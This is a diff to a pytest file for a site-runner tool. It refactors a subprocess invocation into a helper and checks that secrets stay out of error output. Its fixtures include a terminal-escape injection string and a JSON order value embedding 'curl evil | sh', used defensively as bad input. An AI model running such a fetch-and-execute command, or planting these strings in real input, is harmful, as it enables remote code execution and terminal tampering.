@@ -35,6 +35,7 @@ from runner.model import Outcome, Site, SiteKind
 from runner.verify import Expectation
 from runner.workflows import scheduler
 from runner.workflows.run import begin, new_order
+from tests.crew import sitecrew
 
 ROOT = Path(__file__).parents[2]
 EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
@@ -167,7 +168,14 @@ def hosts(tmp_path: Path) -> Iterator[Hosts]:
         yield Hosts(load_workspace(tmp_path), pool, Redactor())
 
 
-@pytest.mark.parametrize("page", ["/page", *(f"/{number}" for number in range(len(Pages.WHERE)))])
+@pytest.mark.parametrize(
+    "page",
+    [
+        "/page",
+        "/0",
+        *(pytest.param(f"/{number}", marks=pytest.mark.long) for number in range(1, len(Pages.WHERE))),
+    ],
+)
 def test_addresses_that_no_parser_takes_are_the_sites_own_trouble(hosts: Hosts, web: str, page: str) -> None:
     odd = Site(
         name="odd", client="acme", host="web1", url=web, path="/srv/odd", kind=SiteKind.STATIC, pages=(page,)
@@ -406,19 +414,11 @@ def test_a_run_whose_variables_are_not_given_is_named_with_what_to_type(folder: 
         clock = scheduler.Scheduler(session, SimpleNamespace(start=lambda _: None))  # type: ignore[arg-type]
         assert clock.recover_runs() == ()
         assert list(clock.not_resumed) == ["now-1-acme"]
-    done = subprocess.run(
-        [sys.executable, "-m", "runner", "tick", "-q"],
-        cwd=folder,
-        env={**os.environ, "PYTHONPATH": str(ROOT)},
-        stdin=subprocess.DEVNULL,
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-    assert done.returncode == 2
-    (said,) = [line for line in done.stderr.splitlines() if "now-1-acme" in line]
+    done = sitecrew("tick", "-q", folder=folder)
+    assert done.code == 2
+    (said,) = [line for line in done.err.splitlines() if "now-1-acme" in line]
     assert "sitecrew resume now-1-acme -e token=..." in said
-    assert "s3cret" not in done.stderr
+    assert "s3cret" not in done.err
 
 
 @pytest.mark.parametrize("order", ["{}", "no order", '{"sites": [], "x": "curl evil | sh"}'])
